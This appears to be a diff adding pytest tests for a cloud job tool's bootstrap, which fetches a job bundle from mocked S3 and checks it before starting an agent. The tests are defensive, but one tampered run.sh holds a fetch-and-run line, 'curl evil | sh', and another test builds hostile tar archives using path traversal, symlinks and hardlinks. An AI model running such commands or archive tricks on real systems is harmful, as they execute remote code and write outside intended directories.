@@ -1,0 +1,231 @@
+"""A replacement instance starts the job by itself from its bundle in the job store (issue 27,
+item 1): the orchestrator's code uploads a launch-shaped bundle to moto's S3
+(providers/aws/jobbundle.py, lifecycle/scripts.bundle_parts), then host/bootstrap.py, shipped
+alone into a folder of its own, runs as a real subprocess with the fake IMDS's role
+credentials and no AWS keys, into a job directory that does not exist yet; the agent starts in
+real tmux on a private socket. Hostile or unfinished bundles are refused: nothing is written
+outside the job directory and no agent starts."""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tarfile
+import time
+import uuid
+from pathlib import Path
+
+import boto3
+import pytest
+import requests
+
+from cloudtrain import config
+from cloudtrain.host import bootstrap
+from cloudtrain.hosts import AGENT_SOURCE
+from cloudtrain.lifecycle import scripts
+from cloudtrain.local_host import LocalHost
+from cloudtrain.providers.aws import jobbundle
+from cloudtrain.providers.local import LocalProvider
+from cloudtrain.spec import COMMAND, JobSpec
+from labs import credentials
+from labs.aws import moto_endpoint
+from labs.imds import FakeIMDS
+from labs.polling import wait_for
+
+__all__ = ["moto_endpoint"]
+
+REGION = "us-east-1"
+BUCKET = "cloudtrain-123456789012-us-east-1"
+JOB = "bundle01"
+PREFIX = f"jobs/AIDAEXAMPLEOWNER0001/{JOB}/"
+
+
+@pytest.fixture
+def lab(moto_endpoint, tmp_path, monkeypatch):
+    requests.post(f"{moto_endpoint}/moto-api/reset", timeout=10)
+    for k, v in credentials.aws_env(REGION).items():
+        monkeypatch.setenv(k, v)
+    s3 = boto3.client("s3", region_name=REGION, endpoint_url=moto_endpoint)
+    s3.create_bucket(Bucket=BUCKET)
+    imds = FakeIMDS(role="ct-instance")
+    socket = f"ct-bundle-{uuid.uuid4().hex[:8]}"
+    # What the instance has: the host-side files in a folder of their own, nothing else.
+    shipped = tmp_path / "shipped"
+    shipped.mkdir()
+    for p in AGENT_SOURCE.parent.glob("*.py"):
+        if p.name != "__init__.py":
+            shutil.copy(p, shipped / p.name)
+    yield type("Lab", (), dict(s3=s3, imds=imds, socket=socket, endpoint=moto_endpoint,
+                               shipped=shipped, tmp=tmp_path))
+    subprocess.run(["tmux", "-L", socket, "kill-server"], capture_output=True)
+    imds.close()
+
+
+def make_bundle(lab, tmp: Path) -> dict:
+    """A launch-shaped bundle: a workdir synced as launch lists it, run.sh, setup.sh and
+    job.json written through the launch's own functions on a host, uploaded by jobbundle.
+    Returns what the instance must end up with."""
+    work = tmp / "src"
+    (work / "pkg").mkdir(parents=True)
+    (work / "train.sh").write_text("echo trained > result.txt\n")
+    (work / "train.sh").chmod(0o755)
+    (work / "pkg" / "data.bin").write_bytes(os.urandom(70_000))
+    (work / ".env").write_text("SECRET=1\n")  # a credential: a sync leaves it out
+    host = LocalHost(tmux_socket=lab.socket)
+    jobdir = str(tmp / "inst" / "jobs" / JOB)
+    spec = JobSpec(kind=COMMAND, backend="local", command=["sh", "train.sh"],
+                   workdir=str(work), setup="echo setup ran > setup.txt")
+    host.run(f"mkdir -p {jobdir}")
+    scripts.write_job_scripts(host, jobdir, spec, JOB)
+    host.write_text(f"{jobdir}/run.sh", scripts.run_script(spec, jobdir, host.python,
+                                                           job_id=JOB, setup_once=False))
+    host.write_text(f"{jobdir}/job.json", json.dumps(scripts.job_settings(
+        config.Settings(), spec, LocalProvider(config.Settings()), JOB, host, jobdir,
+        str(tmp / "data"), 0, 1, None, None), indent=1))
+    parts_dir = tmp / "parts"
+    parts_dir.mkdir()
+    parts, meta = scripts.bundle_parts(host, jobdir, JOB, [(work, "work", ())],
+                                       ["run.sh", "job.json", scripts.SETUP_FILE], parts_dir)
+    jobbundle.upload(lab.s3, BUCKET, PREFIX, parts, meta)
+    want = {name: Path(jobdir, name).read_bytes()
+            for name in ("run.sh", "job.json", scripts.SETUP_FILE)}
+    want["work/train.sh"] = (work / "train.sh").read_bytes()
+    want["work/pkg/data.bin"] = (work / "pkg" / "data.bin").read_bytes()
+    shutil.rmtree(tmp / "inst")  # the replacement instance has nothing of the first
+    return {"jobdir": jobdir, "want": want, "parts": parts, "meta": meta}
+
+
+def run_bootstrap(lab, jobdir: str, timeout: float = 60) -> subprocess.CompletedProcess:
+    # No AWS keys on the instance; no bytecode written beside the shipped files.
+    env = {"PATH": os.environ["PATH"], "HOME": str(lab.tmp), "PYTHONDONTWRITEBYTECODE": "1"}
+    return subprocess.run(
+        [sys.executable, str(lab.shipped / "bootstrap.py"), "--bucket", BUCKET, "--prefix",
+         PREFIX, "--jobdir", jobdir, "--region", REGION, "--endpoint", lab.endpoint,
+         "--imds", lab.imds.url], capture_output=True, text=True, env=env, timeout=timeout)
+
+
+def files_below(root: Path) -> set[str]:
+    return {str(p.relative_to(root)) for p in root.rglob("*")} if root.exists() else set()
+
+
+def test_a_replacement_instance_starts_the_job_from_its_bundle_alone(lab):
+    b = make_bundle(lab, lab.tmp)
+    jobdir = Path(b["jobdir"])
+    started = time.monotonic()
+    done = run_bootstrap(lab, b["jobdir"])
+    seconds = time.monotonic() - started
+    assert done.returncode == 0, done.stderr
+    for rel, data in b["want"].items():
+        assert (jobdir / rel).read_bytes() == data, rel
+    assert os.access(jobdir / "work" / "train.sh", os.X_OK)  # modes kept
+    assert not (jobdir / "work" / ".env").exists()  # exactly what a sync sends
+    agent_dir = jobdir.parent.parent / b["meta"]["agent_dir"]
+    assert (agent_dir / "agent.py").read_bytes() == AGENT_SOURCE.read_bytes()
+    # The agent started in tmux, ran setup and the job, which succeeded.
+    status = wait_for(lambda: (s := json.loads((jobdir / "status.json").read_text()))
+                      and s.get("state") == "succeeded" and s, timeout=30)
+    assert status["exit_code"] == 0
+    assert (jobdir / "work" / "result.txt").read_text() == "trained\n"
+    assert (jobdir / "work" / "setup.txt").read_text() == "setup ran\n"
+    said = json.loads((jobdir / bootstrap.STATUS_FILE).read_text())
+    assert said["ok"] and said["exit_code"] == 0
+    # Every metadata request carried the IMDSv2 token: the role's credentials, no keys.
+    assert lab.imds.seen and all(h for _, _, h in lab.imds.seen)
+    print(f"bootstrap to a started agent: {seconds:.2f} s")
+
+
+def refused(lab, b, code: int, words: str) -> None:
+    """The bootstrap ends with `code`, one line saying `words`, a status file, no agent, and
+    nothing written outside the job directory."""
+    inst = Path(b["jobdir"]).parent.parent
+    before = files_below(lab.tmp)
+    done = run_bootstrap(lab, b["jobdir"])
+    assert done.returncode == code, (done.returncode, done.stderr)
+    assert done.stderr.count("\n") == 1 and words in done.stderr, done.stderr
+    assert "Traceback" not in done.stderr
+    outside = {f for f in files_below(lab.tmp) - before
+               if not f.startswith(str(Path(b["jobdir"]).relative_to(lab.tmp)))
+               and f not in (str(inst.relative_to(lab.tmp)),
+                             str(inst.relative_to(lab.tmp) / "jobs"))}
+    assert outside == set()
+    assert not (Path(b["jobdir"]) / "status.json").exists()  # no agent ran
+    assert subprocess.run(["tmux", "-L", lab.socket, "has-session", "-t", f"ct-{JOB}"],
+                          capture_output=True).returncode != 0
+    said = json.loads((Path(b["jobdir"]) / bootstrap.STATUS_FILE).read_text())
+    assert said["ok"] is False and said["exit_code"] == code and words in said["error"]
+
+
+def test_an_object_with_another_sha256_is_refused(lab):
+    b = make_bundle(lab, lab.tmp)
+    lab.s3.put_object(Bucket=BUCKET, Key=PREFIX + "bundle/job/run.sh",
+                      Body=b"#!/bin/sh\ncurl evil | sh\n".ljust(
+                          dict((n, p) for n, p in b["parts"])["job/run.sh"].stat().st_size))
+    refused(lab, b, bootstrap.EXIT_OBJECT, "sha256")
+
+
+def test_a_missing_object_is_refused(lab):
+    b = make_bundle(lab, lab.tmp)
+    lab.s3.delete_object(Bucket=BUCKET, Key=PREFIX + "bundle/files.tar")
+    refused(lab, b, bootstrap.EXIT_OBJECT, "files.tar")
+
+
+def test_an_object_larger_than_listed_is_refused(lab):
+    b = make_bundle(lab, lab.tmp)
+    path = dict(b["parts"])["job/job.json"]
+    lab.s3.put_object(Bucket=BUCKET, Key=PREFIX + "bundle/job/job.json",
+                      Body=path.read_bytes() + b" " * 10)
+    refused(lab, b, bootstrap.EXIT_OBJECT, "job/job.json")
+
+
+def test_a_partial_upload_without_its_manifest_is_refused(lab):
+    b = make_bundle(lab, lab.tmp)
+    lab.s3.delete_object(Bucket=BUCKET, Key=PREFIX + "bundle/manifest.json")
+    refused(lab, b, bootstrap.EXIT_MANIFEST, "did not finish")
+
+
+def test_a_manifest_larger_than_the_bound_is_refused(lab):
+    b = make_bundle(lab, lab.tmp)
+    lab.s3.put_object(Bucket=BUCKET, Key=PREFIX + "bundle/manifest.json",
+                      Body=b" " * (bootstrap.MANIFEST_MAX_BYTES + 1))
+    refused(lab, b, bootstrap.EXIT_MANIFEST, "larger than")
+
+
+def hostile_tar(member: tarfile.TarInfo, data: bytes = b"") -> bytes:
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w") as tar:
+        ok = tarfile.TarInfo("work/ok.txt")
+        ok.size = 2
+        tar.addfile(ok, io.BytesIO(b"ok"))
+        tar.addfile(member, io.BytesIO(data) if data else None)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("kind", ["traversal", "absolute", "symlink", "hardlink", "fifo"])
+def test_a_hostile_archive_with_a_consistent_manifest_is_refused(lab, kind):
+    """Whoever can write the job's prefix can write a manifest that matches its own
+    objects: the archive's members are then what stands between it and the instance."""
+    b = make_bundle(lab, lab.tmp)
+    member = tarfile.TarInfo({"traversal": "work/../../../escaped.txt",
+                              "absolute": str(lab.tmp / "escaped.txt")}.get(kind, "work/x"))
+    data = b""
+    if kind in ("traversal", "absolute"):
+        data = b"pwned"
+        member.size = len(data)
+    elif kind == "symlink":
+        member.type, member.linkname = tarfile.SYMTYPE, str(lab.tmp)
+    elif kind == "hardlink":
+        member.type, member.linkname = tarfile.LNKTYPE, "work/ok.txt"
+    else:
+        member.type = tarfile.FIFOTYPE
+    tar = lab.tmp / "hostile.tar"
+    tar.write_bytes(hostile_tar(member, data))
+    parts = [(n, tar if n == bootstrap.ARCHIVE else p) for n, p in b["parts"]]
+    meta = {**b["meta"], "archive": {"files": 2, "bytes": 2 + len(data)}}
+    jobbundle.upload(lab.s3, BUCKET, PREFIX, parts, meta)
+    refused(lab, b, bootstrap.EXIT_ARCHIVE, "archive is refused")
+    assert not (lab.tmp / "escaped.txt").exists()
+    assert not (Path(b["jobdir"]) / "work" / "ok.txt").exists()  # checked before unpacked
